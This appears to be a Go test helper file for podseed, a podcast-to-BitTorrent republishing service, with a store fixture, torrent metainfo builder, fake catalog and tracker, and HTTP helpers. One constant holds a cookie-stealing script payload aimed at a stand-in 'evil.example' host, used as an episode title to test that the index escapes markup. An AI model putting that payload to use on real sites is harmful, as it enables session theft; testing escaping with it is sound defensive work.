package web_test

import (
	"bytes"
	"context"
	"crypto/sha1"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"io"
	"log/slog"
	"math/rand/v2"
	"net/http"
	"net/http/httptest"
	"net/url"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/podseed/podseed/store"
	"github.com/podseed/podseed/web"
)

// publicBase is podseed's public base URL in these tests: what a reverse
// proxy in front of it would serve, not the httptest listener.
const publicBase = "https://podseed.example.net"

// Titles and errors with markup in them, to prove the index escapes them.
const (
	nightShiftTitle = `Night Shift <script>alert("podseed")</script> Radio`
	scriptEpTitle   = `Ep. 2: <script>document.location="https://evil.example/?c="+document.cookie</script>`
	failedEpError   = `download "https://cdn.example.org/night-shift/ep2.mp3": 503 Service Unavailable <html><body>busy</body></html>`
	brokenFeedError = `fetch "https://broken.example.net/feed.xml": unexpected content type "text/html" <!DOCTYPE html><title>Parked</title>`
)

// mustOpenStore opens a fresh store in a temporary directory and closes it
// when the test ends.
func mustOpenStore(tb testing.TB) *store.Store {
	tb.Helper()
	st, err := store.Open(context.Background(), filepath.Join(tb.TempDir(), "podseed.db"))
	if err != nil {
		tb.Fatalf("open store: %v", err)
	}
	tb.Cleanup(func() {
		if err := st.Close(); err != nil {
			tb.Errorf("close store: %v", err)
		}
	})
	return st
}

// bstr bencodes a byte string.
func bstr(s string) string { return strconv.Itoa(len(s)) + ":" + s }

// bint bencodes an integer.
func bint(n int64) string { return "i" + strconv.FormatInt(n, 10) + "e" }

// mustMetainfo builds a single-file v1 .torrent of data, with announce as
// tracker and webSeed as url-list (BEP 19), and returns it with its hex
// infohash.
func mustMetainfo(tb testing.TB, name string, data []byte, pieceLength int, announce, webSeed string) ([]byte, string) {
	tb.Helper()
	if pieceLength <= 0 || len(data) == 0 {
		tb.Fatalf("metainfo %q: want data and a positive piece length", name)
	}
	var pieces strings.Builder
	for off := 0; off < len(data); off += pieceLength {
		sum := sha1.Sum(data[off:min(off+pieceLength, len(data))])
		pieces.Write(sum[:])
	}
	// Keys in sorted order, as bencoding requires.
	info := "d" +
		bstr("length") + bint(int64(len(data))) +
		bstr("name") + bstr(name) +
		bstr("piece length") + bint(int64(pieceLength)) +
		bstr("pieces") + bstr(pieces.String()) +
		"e"
	mi := "d" +
		bstr("announce") + bstr(announce) +
		bstr("info") + info +
		bstr("url-list") + bstr(webSeed) +
		"e"
	ih := sha1.Sum([]byte(info))
	return []byte(mi), hex.EncodeToString(ih[:])
}

// fixture is a store populated like a running podseed's, and what the tests
// need to know about it.
type fixture struct {
	store *store.Store
	// nightShift was fetched; broken was never fetched and has a last error.
	nightShift, broken store.Feed
	// ready, readyNewer are ready episodes' infohashes (newer: Ep. 4).
	ready, readyNewer string
	// metainfo by infohash.
	metainfo map[string][]byte
	// ep4 … ep1 and bonus are nightShift's episodes: ep4 and ep3 ready,
	// ep2 failed, ep1 and bonus (no guid, title or date) pending.
	ep4, ep3, ep2, ep1, bonus store.Episode
}

var (
	fetchedAt = time.Date(2025, 3, 17, 6, 0, 0, 0, time.UTC)
	nextPoll  = fetchedAt.Add(time.Hour)
)

// enclosureData returns n deterministic bytes standing in for an MP3.
func enclosureData(seed uint64, n int) []byte {
	r := rand.New(rand.NewPCG(seed, seed^0x9e3779b97f4a7c15))
	b := make([]byte, n)
	for i := range b {
		b[i] = byte(r.Uint32())
	}
	return b
}

// mustPopulate fills st with two feeds and episodes in every state, as the
// poll → ingest pipeline would have left them.
func mustPopulate(tb testing.TB, st *store.Store) fixture {
	tb.Helper()
	ctx := context.Background()
	fx := fixture{store: st, metainfo: map[string][]byte{}}

	nightShift, _, err := st.CreateFeed(ctx, "https://feeds.example.org/night-shift.xml")
	if err != nil {
		tb.Fatal(err)
	}
	broken, _, err := st.CreateFeed(ctx, "https://broken.example.net/feed.xml")
	if err != nil {
		tb.Fatal(err)
	}

	if err := st.UpdateFeedFetched(ctx, nightShift.ID, store.FeedFetch{
		Title: nightShiftTitle, ETag: `"5e1f-61c2"`, LastModified: "Mon, 17 Mar 2025 05:58:12 GMT",
		Body: []byte(nightShiftOriginal), FetchedAt: fetchedAt, NextPollAt: nextPoll,
	}); err != nil {
		tb.Fatal(err)
	}
	// Never fetched: no poll time, no body, only the error of its first try.
	if err := st.UpdateFeedError(ctx, broken.ID, brokenFeedError, time.Time{}, fetchedAt.Add(15*time.Minute)); err != nil {
		tb.Fatal(err)
	}

	day := func(d int) time.Time { return time.Date(2025, 3, d, 5, 0, 0, 0, time.UTC) }
	const cdn = "https://cdn.example.org/night-shift/"
	eps, err := st.UpsertEpisodes(ctx, nightShift.ID, []store.Episode{
		{GUID: "night-shift-ep4", Title: "Ep. 4: Trackerless", EnclosureURL: cdn + "ep4.mp3",
			EnclosureLength: 70_000, EnclosureType: "audio/mpeg", PublishedAt: day(17)},
		{GUID: "night-shift-ep3", Title: "Ep. 3: Seeding the Swarm", EnclosureURL: cdn + "ep3.mp3",
			EnclosureLength: 40_000, EnclosureType: "audio/mpeg", PublishedAt: day(10)},
		{GUID: "night-shift-ep2", Title: scriptEpTitle, EnclosureURL: cdn + "ep2.mp3",
			EnclosureLength: 50 << 20, EnclosureType: "audio/mpeg", PublishedAt: day(3)},
		{GUID: "night-shift-ep1", Title: "Ep. 1: Pilot", EnclosureURL: cdn + "ep1.mp3",
			EnclosureType: "audio/mpeg", PublishedAt: time.Date(2025, 2, 24, 5, 0, 0, 0, time.UTC)},
		// No guid, no title, no date: keyed and shown by its enclosure URL.
		{EnclosureURL: cdn + "bonus.mp3", EnclosureLength: 1000, EnclosureType: "audio/mpeg"},
	})
	if err != nil {
		tb.Fatal(err)
	}
	if len(eps) != 5 {
		tb.Fatalf("upserted %d episodes, want 5", len(eps))
	}
	ep4, ep3, ep2 := eps[0], eps[1], eps[2]
	fx.ep1, fx.bonus = eps[3], eps[4]

	if err := st.MarkEpisodeFailed(ctx, ep2.ID, failedEpError, fetchedAt.Add(30*time.Minute)); err != nil {
		tb.Fatal(err)
	}

	dataDir := filepath.Join(tb.TempDir(), "data")
	for _, r := range []struct {
		ep   store.Episode
		name string
		seed uint64
		ih   *string
	}{
		{ep3, "ep3.mp3", 3, &fx.ready},
		{ep4, "ep4.mp3", 4, &fx.readyNewer},
	} {
		data := enclosureData(r.seed, int(r.ep.EnclosureLength))
		mi, ih := mustMetainfo(tb, r.name, data, 16<<10, publicBase+"/announce", r.ep.EnclosureURL)
		sri := sha256.Sum256(data)
		if err := st.CreateTorrent(ctx, store.Torrent{
			InfoHash: ih, EpisodeID: r.ep.ID, Name: r.name, Metainfo: mi,
			PieceLength: 16 << 10, Size: int64(len(data)), DataPath: filepath.Join(dataDir, r.name),
			SRI: "sha256-" + base64.StdEncoding.EncodeToString(sri[:]),
		}); err != nil {
			tb.Fatal(err)
		}
		*r.ih = ih
		fx.metainfo[ih] = mi
	}

	for _, e := range []*store.Episode{&ep4, &ep3, &ep2} {
		if *e, err = st.FindEpisodeByID(ctx, e.ID); err != nil {
			tb.Fatal(err)
		}
	}
	fx.ep4, fx.ep3, fx.ep2 = ep4, ep3, ep2
	if fx.nightShift, err = st.FindFeedByID(ctx, nightShift.ID); err != nil {
		tb.Fatal(err)
	}
	if fx.broken, err = st.FindFeedByID(ctx, broken.ID); err != nil {
		tb.Fatal(err)
	}
	return fx
}

// sampleNow is the clock of tests with swarm history: an hour after the
// fixture's poll.
var sampleNow = fetchedAt.Add(time.Hour)

// mustAddSamples records swarm history for fx's ready torrents as the
// sampler would have by sampleNow, and returns it by infohash, oldest
// first. fx.ready has two samples older than 24 hours and twelve within
// them (every two hours from 23 hours ago); fx.readyNewer three within the
// last hour.
func mustAddSamples(tb testing.TB, fx fixture) map[string][]store.SwarmSample {
	tb.Helper()
	all := map[string][]store.SwarmSample{}
	for _, h := range []int{30, 26, 23, 21, 19, 17, 15, 13, 11, 9, 7, 5, 3, 1} {
		i := len(all[fx.ready])
		all[fx.ready] = append(all[fx.ready], store.SwarmSample{
			InfoHash: fx.ready, At: sampleNow.Add(-time.Duration(h) * time.Hour),
			Seeders: 3 + i, Leechers: (i * 7) % 5, Completed: 181 + 4*i, // the last is swarmCounts' 233
			Peers: 1 + i%3, BytesUploaded: int64(i+1) * 1_000_003, Availability: float64(i) / 4,
			BytesWebSeeded: int64(i) * 2000,
		})
	}
	for i, m := range []int{50, 30, 10} {
		all[fx.readyNewer] = append(all[fx.readyNewer], store.SwarmSample{
			InfoHash: fx.readyNewer, At: sampleNow.Add(-time.Duration(m) * time.Minute),
			Seeders: 1, Leechers: 2 - i, Completed: i, Peers: 1, BytesUploaded: int64(i) * 70_000,
			BytesWebSeeded: int64(i) * 500,
		})
	}
	for _, ih := range []string{fx.ready, fx.readyNewer} {
		if err := fx.store.CreateSwarmSamples(context.Background(), all[ih]); err != nil {
			tb.Fatal(err)
		}
	}
	return all
}

// nightShiftOriginal is the publisher's feed as fetched.
const nightShiftOriginal = `<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:itunes="http://www.itunes.com/dtds/podcast-1.0.dtd">
<channel>
<title>Night Shift &lt;script&gt;alert("podseed")&lt;/script&gt; Radio</title>
<link>https://night-shift.example.org/</link>
<itunes:author>Night Shift Collective</itunes:author>
<item><title>Ep. 4: Trackerless</title><guid isPermaLink="false">night-shift-ep4</guid>
<enclosure url="https://cdn.example.org/night-shift/ep4.mp3" length="70000" type="audio/mpeg"/></item>
<item><title>Ep. 3: Seeding the Swarm</title><guid isPermaLink="false">night-shift-ep3</guid>
<enclosure url="https://cdn.example.org/night-shift/ep3.mp3" length="40000" type="audio/mpeg"/></item>
</channel>
</rss>
`

// testCatalog is web.Catalog over a real store, with canned renderings in
// place of what cmd composes from publish and seed.
type testCatalog struct {
	store *store.Store
	urls  web.URLs
	// feedRSS and torrentRSS are the canned renderings by feed ID.
	feedRSS, torrentRSS map[int64][]byte
	// fail makes the named method return its error; read-only once serving.
	fail map[string]error
	// magnet, if set, replaces Magnet's answer: "" as for an unreadable
	// metainfo, or something that is not a magnet URI.
	magnet func(infoHash string) string
	// peers are the connected peers by infohash; read-only once serving.
	peers map[string][]web.Peer
}

var _ web.Catalog = (*testCatalog)(nil)

// newTestCatalog returns a catalog over fx's store with canned feeds for
// the fetched feed.
func newTestCatalog(fx fixture) *testCatalog {
	return &testCatalog{
		store: fx.store,
		urls:  web.URLs{Base: publicBase},
		feedRSS: map[int64][]byte{
			fx.nightShift.ID: []byte(republished(fx)),
		},
		torrentRSS: map[int64][]byte{
			fx.nightShift.ID: []byte(torrentFeed(fx)),
		},
	}
}

// republished is the canned republished feed: the original with a
// Podcasting 2.0 alternate enclosure for each ready episode.
func republished(fx fixture) string {
	alt := func(ih string) string {
		return fmt.Sprintf(`<podcast:alternateEnclosure type="audio/mpeg"><podcast:source uri="%s/torrents/%s.torrent" contentType="application/x-bittorrent"/></podcast:alternateEnclosure>`, publicBase, ih)
	}
	s := strings.Replace(nightShiftOriginal, `xmlns:itunes=`, `xmlns:podcast="https://podcastindex.org/namespace/1.0" xmlns:itunes=`, 1)
	s = strings.Replace(s, `ep4.mp3" length="70000" type="audio/mpeg"/>`, `ep4.mp3" length="70000" type="audio/mpeg"/>`+alt(fx.readyNewer), 1)
	return strings.Replace(s, `ep3.mp3" length="40000" type="audio/mpeg"/>`, `ep3.mp3" length="40000" type="audio/mpeg"/>`+alt(fx.ready), 1)
}

// torrentFeed is the canned BEP 36 torrent feed of the fetched feed.
func torrentFeed(fx fixture) string {
	return fmt.Sprintf(`<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0"><channel><title>Night Shift (torrents)</title><link>%[1]s/feeds/%[2]d.rss</link>
<item><title>Ep. 4: Trackerless</title><enclosure url="%[1]s/torrents/%[3]s.torrent" length="%[5]d" type="application/x-bittorrent"/></item>
<item><title>Ep. 3: Seeding the Swarm</title><enclosure url="%[1]s/torrents/%[4]s.torrent" length="%[6]d" type="application/x-bittorrent"/></item>
</channel></rss>
`, publicBase, fx.nightShift.ID, fx.readyNewer, fx.ready, len(fx.metainfo[fx.readyNewer]), len(fx.metainfo[fx.ready]))
}

func (c *testCatalog) URLs() web.URLs { return c.urls }

func (c *testCatalog) ListFeeds(ctx context.Context) ([]store.Feed, error) {
	if err := c.fail["ListFeeds"]; err != nil {
		return nil, err
	}
	return c.store.ListFeeds(ctx)
}

func (c *testCatalog) ListEpisodesByFeed(ctx context.Context, feedID int64) ([]store.Episode, error) {
	if err := c.fail["ListEpisodesByFeed"]; err != nil {
		return nil, err
	}
	return c.store.ListEpisodesByFeed(ctx, feedID)
}

func (c *testCatalog) FeedRSS(ctx context.Context, feedID int64) ([]byte, error) {
	if err := c.fail["FeedRSS"]; err != nil {
		return nil, err
	}
	f, err := c.store.FindFeedByID(ctx, feedID)
	if err != nil {
		return nil, err
	}
	if f.Body == nil {
		return nil, fmt.Errorf("feed %d not fetched yet: %w", feedID, store.ErrNotFound)
	}
	return c.feedRSS[feedID], nil
}

func (c *testCatalog) TorrentFeedRSS(ctx context.Context, feedID int64) ([]byte, error) {
	if err := c.fail["TorrentFeedRSS"]; err != nil {
		return nil, err
	}
	f, err := c.store.FindFeedByID(ctx, feedID)
	if err != nil {
		return nil, err
	}
	if b, ok := c.torrentRSS[feedID]; ok {
		return b, nil
	}
	// A known feed with nothing torrentified yet has an empty channel.
	return fmt.Appendf(nil, `<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0"><channel><title>%s (torrents)</title><link>%s</link></channel></rss>
`, f.URL, c.urls.Feed(feedID)), nil
}

func (c *testCatalog) TorrentFile(ctx context.Context, infoHash string) ([]byte, error) {
	if err := c.fail["TorrentFile"]; err != nil {
		return nil, err
	}
	t, err := c.store.FindTorrentByInfoHash(ctx, infoHash)
	if err != nil {
		return nil, err
	}
	return t.Metainfo, nil
}

func (c *testCatalog) FindFeedByID(ctx context.Context, id int64) (store.Feed, error) {
	if err := c.fail["FindFeedByID"]; err != nil {
		return store.Feed{}, err
	}
	return c.store.FindFeedByID(ctx, id)
}

func (c *testCatalog) FindEpisodeByID(ctx context.Context, id int64) (store.Episode, error) {
	if err := c.fail["FindEpisodeByID"]; err != nil {
		return store.Episode{}, err
	}
	return c.store.FindEpisodeByID(ctx, id)
}

func (c *testCatalog) FindTorrentByInfoHash(ctx context.Context, infoHash string) (store.Torrent, error) {
	if err := c.fail["FindTorrentByInfoHash"]; err != nil {
		return store.Torrent{}, err
	}
	return c.store.FindTorrentByInfoHash(ctx, infoHash)
}

func (c *testCatalog) ListSwarmSamples(ctx context.Context, infoHash string, since time.Time) ([]store.SwarmSample, error) {
	if err := c.fail["ListSwarmSamples"]; err != nil {
		return nil, err
	}
	return c.store.ListSwarmSamples(ctx, infoHash, since)
}

// Peers returns the canned peers of a torrent.
func (c *testCatalog) Peers(_ context.Context, infoHash string) []web.Peer {
	return c.peers[infoHash]
}

// Magnet builds a magnet URI the way seed.Magnet does: infohash, name,
// tracker, .torrent URL (xs) and length.
func (c *testCatalog) Magnet(ctx context.Context, infoHash string) string {
	if c.magnet != nil {
		return c.magnet(infoHash)
	}
	t, err := c.store.FindTorrentByInfoHash(ctx, infoHash)
	if err != nil {
		return ""
	}
	q := url.Values{}
	q.Set("dn", t.Name)
	q.Set("tr", c.urls.Announce())
	q.Set("xs", c.urls.Torrent(infoHash))
	q.Set("xl", strconv.FormatInt(t.Size, 10))
	return "magnet:?xt=urn:btih:" + infoHash + "&" + q.Encode()
}

// fakeSwarm returns fixed counts by infohash; unknown ones have none.
type fakeSwarm map[string]web.SwarmCounts

var _ web.Swarm = fakeSwarm(nil)

func (s fakeSwarm) Scrape(infoHash string) web.SwarmCounts { return s[infoHash] }

// fakeTracker answers with a marker naming the endpoint and echoing the
// query, so tests can tell the request reached it.
type fakeTracker struct{}

func (fakeTracker) ServeAnnounce(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Content-Type", "text/plain; charset=utf-8")
	_, _ = io.WriteString(w, "fake-tracker announce "+r.URL.RawQuery)
}

func (fakeTracker) ServeScrape(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Content-Type", "text/plain; charset=utf-8")
	_, _ = io.WriteString(w, "fake-tracker scrape "+r.URL.RawQuery)
}

// lockedBuffer is a log sink safe for the server's goroutines.
type lockedBuffer struct {
	mu  sync.Mutex
	buf bytes.Buffer
}

func (b *lockedBuffer) Write(p []byte) (int, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.Write(p)
}

func (b *lockedBuffer) String() string {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.String()
}

// swarmCounts are the fake swarm's counts for fx's torrents.
func swarmCounts(fx fixture) fakeSwarm {
	return fakeSwarm{
		fx.ready:      {Seeders: 17, Leechers: 4, Completed: 233},
		fx.readyNewer: {Seeders: 1, Leechers: 0, Completed: 1},
	}
}

// mustNewHandler returns web.New's handler, logging into logs.
func mustNewHandler(tb testing.TB, cat web.Catalog, swarm web.Swarm, logs io.Writer, opts ...web.Option) http.Handler {
	tb.Helper()
	h, err := web.New(cat, swarm, fakeTracker{}, slog.New(slog.NewTextHandler(logs, nil)), opts...)
	if err != nil {
		tb.Fatalf("web.New: %v", err)
	}
	return h
}

// mustServe serves web.New's handler on loopback until the test ends.
func mustServe(tb testing.TB, cat web.Catalog, swarm web.Swarm, logs io.Writer, opts ...web.Option) *httptest.Server {
	tb.Helper()
	srv := httptest.NewServer(mustNewHandler(tb, cat, swarm, logs, opts...))
	tb.Cleanup(srv.Close)
	return srv
}

// atSampleNow makes the server's clock stand still at sampleNow.
func atSampleNow() web.Option { return web.WithClock(func() time.Time { return sampleNow }) }

// mustDo sends a request and returns the response with its whole body.
func mustDo(tb testing.TB, srv *httptest.Server, method, path string, header http.Header) (*http.Response, []byte) {
	tb.Helper()
	req, err := http.NewRequestWithContext(tb.Context(), method, srv.URL+path, nil)
	if err != nil {
		tb.Fatal(err)
	}
	for k, vs := range header {
		req.Header[k] = vs
	}
	resp, err := srv.Client().Do(req)
	if err != nil {
		tb.Fatalf("%s %s: %v", method, path, err)
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		tb.Fatalf("%s %s: read body: %v", method, path, err)
	}
	return resp, body
}
